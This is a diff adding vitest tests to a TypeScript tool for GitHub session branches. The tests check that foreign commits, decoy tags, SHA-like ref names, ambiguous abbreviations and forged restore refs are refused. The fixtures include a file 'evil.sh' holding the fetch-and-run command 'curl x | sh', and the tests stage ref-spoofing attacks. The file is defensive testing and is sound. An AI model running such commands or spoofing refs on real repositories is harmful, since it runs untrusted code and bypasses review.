@@ -7,6 +7,7 @@
  * under the session's refs, what is not offered answers `CAPABILITY_MISSING` saying what to do, and
  * discarding the session deletes the notes refs and the refs restores kept.
  */
+import { createHash } from 'node:crypto'
 import { afterEach, describe, expect, it } from 'vitest'
 import { sessionNotesRef } from '../../../src/github/branches.ts'
 import { writeNotesCommit, toolCallsNote } from '../../support/session-notes.ts'
@@ -232,5 +233,108 @@ describe('history of a GitHub session branch', () => {
     expect(h.api.resolve(sessionNotesRef(session.id, 'tool-calls'))).toBeNull()
     expect(h.api.resolve(sessionNotesRef(session.id, 'transcript'))).toBeNull()
     expect(h.api.resolve(otherRef)).not.toBeNull()
+  })
+
+  it("another session's commit on the same baseline is not this session's: show, diff, restore and a pinned promote refuse it", async () => {
+    const h = await setup()
+    const mine = await h.gittrix.startSession({ task: 'mine', eviction: { untilPromote: false } })
+    const theirs = await h.gittrix.startSession({ task: 'theirs', eviction: { untilPromote: false } })
+    const own = h.push(mine.id, { 'a.txt': 'reviewed\n' })
+    const foreign = h.push(theirs.id, { 'a.txt': 'never reviewed here\n', 'evil.sh': 'curl x | sh\n' })
+    for (const at of [foreign, foreign.slice(0, 10)]) {
+      expect((await caught(mine.show(at, 'a.txt'))).code).toBe('INVALID_ARGUMENT')
+      expect((await caught(mine.diff({ from: at }))).code).toBe('INVALID_ARGUMENT')
+      expect((await caught(mine.diff({ to: at }))).code).toBe('INVALID_ARGUMENT')
+      expect((await caught(mine.restore(at))).code).toBe('INVALID_ARGUMENT')
+      expect((await caught(mine.promote({ selector: { mode: 'all' }, at }))).code).toBe('INVALID_ARGUMENT')
+    }
+    expect(h.api.head(`gittrix/${mine.id}`)).toBe(own)
+    expect(h.api.head('main')).toBe(h.initial)
+    // Its own commits still are.
+    const shown = await mine.show(own.slice(0, 10), 'a.txt')
+    expect(shown.type === 'file' && Buffer.from(shown.bytes).toString()).toBe('reviewed\n')
+  })
+
+  it('a tag named like the session branch does not stand in for it: diff and promotion read the branch', async () => {
+    const h = await setup()
+    const session = await h.gittrix.startSession({ task: 'shadow', eviction: { untilPromote: false } })
+    h.push(session.id, { 'a.txt': 'reviewed\n' })
+    // Someone with push access tags other content under the session branch's short name.
+    const decoy = h.api.commit(
+      'decoy',
+      { 'a.txt': 'swapped\n', 'evil.sh': 'curl x | sh\n' },
+      { from: h.initial },
+    )
+    h.api.git(['tag', `gittrix/${session.id}`, decoy])
+    const diff = await session.diff()
+    expect(diff).toContain('+reviewed')
+    expect(diff).not.toContain('evil.sh')
+    const promoted = await session.promote({ selector: { mode: 'all' }, strategy: 'commit' })
+    expect(h.api.git(['show', `${promoted.sha}:a.txt`])).toBe('reviewed')
+    expect(h.api.git(['ls-tree', '--name-only', promoted.sha])).not.toContain('evil.sh')
+  })
+
+  it('only full ids reach GitHub: a 64-hex ref name is refused, an abbreviation is matched among the branch’s own commits', async () => {
+    const h = await setup()
+    const session = await h.gittrix.startSession({ task: 'ids', eviction: { untilPromote: false } })
+    const reviewed = h.push(session.id, { 'a.txt': 'reviewed\n' })
+    const evil = h.api.commit(
+      'elsewhere',
+      { 'a.txt': 'EVIL\n', 'evil.sh': 'curl x | sh\n' },
+      { from: h.initial },
+    )
+    // A tag named like a SHA-256 id (git reads 64 hex on a SHA-1 repository as a ref name).
+    const long = `${reviewed}${'f'.repeat(24)}`
+    h.api.git(['update-ref', `refs/tags/${long}`, evil])
+    expect((await caught(session.show(long, 'a.txt'))).code).toBe('INVALID_ARGUMENT')
+    // A tag named like the reviewed commit's abbreviation, pointing elsewhere: the abbreviation still
+    // names the branch's commit (GitHub, like git, would read the tag first).
+    const prefix = reviewed.slice(0, 6)
+    h.api.git(['tag', prefix, evil])
+    const shown = await session.show(prefix, 'a.txt')
+    expect(shown.type === 'file' && Buffer.from(shown.bytes).toString()).toBe('reviewed\n')
+    // A later commit of the branch ground to share a 4-digit abbreviation: ambiguous, refused.
+    const short = reviewed.slice(0, 4)
+    const later = h.push(session.id, { 'evil.sh': 'curl x | sh\n' })
+    const body = h.api.git(['cat-file', 'commit', later])
+    let twin = ''
+    for (let n = 0; !twin; n++) {
+      const text = `${body}\nnonce ${n}\n`
+      const id = createHash('sha1')
+        .update(`commit ${Buffer.byteLength(text)}\0${text}`)
+        .digest('hex')
+      if (id.startsWith(short)) twin = h.api.git(['hash-object', '-w', '-t', 'commit', '--stdin'], text)
+    }
+    h.api.git(['update-ref', `refs/heads/gittrix/${session.id}`, twin])
+    h.api.git(['tag', short, twin])
+    const ambiguous = await caught(session.promote({ selector: { mode: 'all' }, at: short }))
+    expect(ambiguous.code).toBe('INVALID_ARGUMENT')
+    expect(ambiguous.message).toMatch(/2 of its commits start with it/)
+    expect(h.api.head('main')).toBe(h.initial)
+  })
+
+  it('a head a restore kept is a point of history, never of a pinned promotion: anyone who may push can write those refs', async () => {
+    const h = await setup()
+    const session = await h.gittrix.startSession({ task: 'kept', eviction: { untilPromote: false } })
+    h.push(session.id, { 'a.txt': 'reviewed\n' })
+    const forged = h.api.commit('elsewhere', { 'evil.sh': 'curl x | sh\n' }, { from: h.initial })
+    h.api.git([
+      'update-ref',
+      `refs/notes/gittrix-sessions/${session.id}/restored/20260101T000000Z-${forged.slice(0, 12)}`,
+      forged,
+    ])
+    expect((await caught(session.promote({ selector: { mode: 'all' }, at: forged }))).code).toBe(
+      'INVALID_ARGUMENT',
+    )
+    expect(h.api.head('main')).toBe(h.initial)
+    // Refs of another shape, or of a session whose id merely starts with this one's, are no kept heads.
+    const other = h.api.commit('elsewhere', { 'x.txt': 'x\n' })
+    for (const ref of [
+      `refs/notes/gittrix-sessions/${session.id}/restored-evil`,
+      `refs/notes/gittrix-sessions/${session.id}/restored/x/20260101T000000Z-0123456789ab`,
+      `refs/notes/gittrix-sessions/${session.id}0/restored/20260101T000000Z-0123456789ab`,
+    ])
+      h.api.git(['update-ref', ref, other])
+    expect((await caught(session.show(other, 'x.txt'))).code).toBe('INVALID_ARGUMENT')
   })
 })
